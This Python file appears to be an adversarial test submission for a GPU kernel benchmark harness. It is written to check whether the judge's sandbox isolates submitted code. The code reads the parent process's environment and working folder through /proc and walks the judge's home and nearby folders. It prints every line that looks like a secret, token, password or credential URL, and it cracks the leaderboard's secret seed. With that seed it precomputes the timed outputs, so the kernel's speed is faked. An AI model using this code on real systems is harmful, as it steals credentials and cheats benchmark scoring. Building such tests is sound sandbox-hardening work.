"""Searches the judge's files for secrets: job messages, ``.env`` files, token files, client configs.

Class: reading the secret seed from files (the judge's folder, its home, the broker's messages)
Expected: error

The judge's working folder is ``/proc/<parent>/cwd`` and its home is in ``/proc/<parent>/environ``;
with the default filesystem broker, job messages (secret seed included) are files under
``.kernelrank/broker`` of the service's folder; ``.env`` files, ``~/.kernelrank/token`` and
``~/.config/kernelrank/config.toml`` hold more. The submission walks those places (and the folders
above its own), prints every secret-looking line it finds (stdout is shown to the submitter:
exfiltration), and tries every number next to ``secret_seed`` / ``SECRET_SEED`` as the leaderboard
secret: the right one regenerates the input it got on the first call of a benchmark case. With it
the warm-up call precomputes the next input sets and outputs of the case, and every timed call is
a table lookup, honest only on a miss.

A working defence shows the child nothing but its own folder and the libraries (a mount namespace,
another user); the attack then finds no secret and raises.
"""

import hashlib
import math
import os
import re
from pathlib import Path

import torch

D_QK, D_V, PAGE_SIZE = 576, 512, 64
# public: problems/mla_decode/problem.yaml benchmarks: (b, s_q, h_q, seqlen) -> seed
_CASES = {(4, 1, 16, 512): 201, (2, 1, 16, 1024): 202, (1, 1, 16, 2048): 203, (2, 2, 16, 512): 204,
          (128, 1, 16, 4096): 301, (128, 1, 16, 8192): 302, (128, 1, 128, 4096): 303,
          (128, 1, 128, 8192): 304, (128, 2, 128, 8192): 305}
_AHEAD = 12
_SEED = re.compile(rb"(?:secret_seed\"?\s*[:=]\s*|SECRET_SEED\s*=\s*)(\d{6,19})")
_LOOT = re.compile(rb"[^\n]*(?:secret|token|password|SECRET|TOKEN|PASSWORD|://[^\s:/]+:[^\s@/]+@)[^\n]*")
_table = {}
_tried = set()
_secret = []


def _mix(secret, seed, iteration):  # the harness's derivation (public source)
    digest = hashlib.blake2b(f"{secret}:{seed}:{iteration}".encode(), digest_size=8).digest()
    return int.from_bytes(digest, "little") >> 1


def _generate(b, s_q, h_q, seqlen, seed, device):  # reference_kernels/mla_decode/reference.py (public)
    g = torch.Generator(device=device).manual_seed(seed)
    lens = torch.normal(float(seqlen), seqlen / 2.0, (b,), generator=g, device=device)
    lens = lens.round().clamp(min=s_q, max=2 * seqlen).to(torch.int32)
    lens[0] = seqlen
    max_blocks = math.ceil(int(lens.max().item()) / PAGE_SIZE)
    num_blocks = b * max_blocks
    q = (torch.randn(b, s_q, h_q, D_QK, generator=g, device=device) * 2.0).to(torch.bfloat16)
    kv_cache = torch.randn(num_blocks, PAGE_SIZE, 1, D_QK, generator=g, device=device, dtype=torch.bfloat16)
    block_table = torch.randperm(num_blocks, generator=g, device=device).view(b, max_blocks).to(torch.int32)
    slot = block_table.long()[:, :, None] * PAGE_SIZE + torch.arange(PAGE_SIZE, device=device)
    slot = slot.view(b, max_blocks * PAGE_SIZE)
    pos = torch.arange(max_blocks * PAGE_SIZE, device=device)
    kv_cache.view(num_blocks * PAGE_SIZE, D_QK)[slot[pos[None, :] >= lens.long()[:, None]]] = float("nan")
    return q.contiguous(), kv_cache.contiguous(), block_table.contiguous(), lens.contiguous(), D_QK**-0.5


def _attention(data):
    q, kv_cache, block_table, cache_seqlens, softmax_scale = data
    b, s_q, h_q, d = q.shape
    n = block_table.shape[1] * PAGE_SIZE
    kv = kv_cache[block_table.long()].view(b, n, d)
    pos = torch.arange(n, device=q.device)
    lens = cache_seqlens.long()
    kv = torch.where((pos[None, :] < lens[:, None])[:, :, None], kv.float(), 0.0)
    scores = torch.matmul(q.float().view(b, s_q * h_q, d), kv.transpose(1, 2)).view(b, s_q, h_q, n) * softmax_scale
    visible = lens[:, None] - s_q + 1 + torch.arange(s_q, device=q.device)[None, :]
    scores = scores.masked_fill(~(pos[None, None, :] < visible[:, :, None])[:, :, None, :], float("-inf"))
    p = torch.softmax(scores, dim=-1).view(b, s_q * h_q, n)
    return torch.matmul(p, kv[:, :, :D_V]).view(b, s_q, h_q, D_V).to(q.dtype)


def _fingerprint(q):
    return q.reshape(-1)[:64].float().cpu().numpy().tobytes()


def _places():
    places = []
    try:
        raw = open(f"/proc/{os.getppid()}/environ", "rb").read()
        env = dict(kv.decode(errors="replace").partition("=")[::2] for kv in raw.split(b"\0") if b"=" in kv)
    except OSError:
        env = {}
    places.append(Path(f"/proc/{os.getppid()}/cwd"))
    if env.get("HOME"):
        places.append(Path(env["HOME"]))
    places += list(Path.cwd().resolve().parents)[:2]
    return places


def _walk(root, depth=4, limit=3000):
    count = 0
    stack = [(root, 0)]
    while stack and count < limit:
        folder, level = stack.pop()
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for e in entries:
            try:
                if e.is_dir(follow_symlinks=False):
                    if level < depth and e.name not in ("proc", "sys", "dev", "site-packages", ".git", "node_modules"):
                        stack.append((e.path, level + 1))
                elif e.is_file(follow_symlinks=False) and e.stat(follow_symlinks=False).st_size <= 1 << 20:
                    count += 1
                    yield e.path
            except OSError:
                continue


def _search():
    seeds, loot = {}, set()
    for place in _places():
        for path in _walk(place):
            try:
                text = open(path, "rb").read()
            except OSError:
                continue
            for m in _SEED.finditer(text):
                seeds[int(m.group(1))] = path
            for m in _LOOT.finditer(text):
                loot.add(f"{path}: {m.group(0)[:200].decode(errors='replace')}")
    for line in sorted(loot)[:50]:
        print(f"[attack] {line}", flush=True)
    return list(seeds)


def custom_kernel(data):
    q, cache_seqlens = data[0], data[3]
    out = _table.get(_fingerprint(q))
    if out is not None:
        return out
    b, s_q, h_q, _ = q.shape
    key = (b, s_q, h_q, int(cache_seqlens[0]))
    seed = _CASES.get(key)
    if seed is not None and key not in _tried:  # first call of a benchmark case: the warm-up
        _tried.add(key)
        if not _secret:
            for candidate in _search()[:64]:
                if any(torch.equal(_generate(*key, _mix(candidate, seed, it), q.device)[0], q) for it in (0, 1)):
                    _secret.append(candidate)
                    print(f"[attack] the secret seed of this run is {candidate}", flush=True)
                    break
            else:
                raise RuntimeError("no secret seed in any file this process can read")
        for iteration in range(_AHEAD + 1):
            inputs = _generate(*key, _mix(_secret[0], seed, iteration), q.device)
            _table[_fingerprint(inputs[0])] = _attention(inputs)
        out = _table.get(_fingerprint(q))
        if out is not None:
            return out
    return _attention(data)
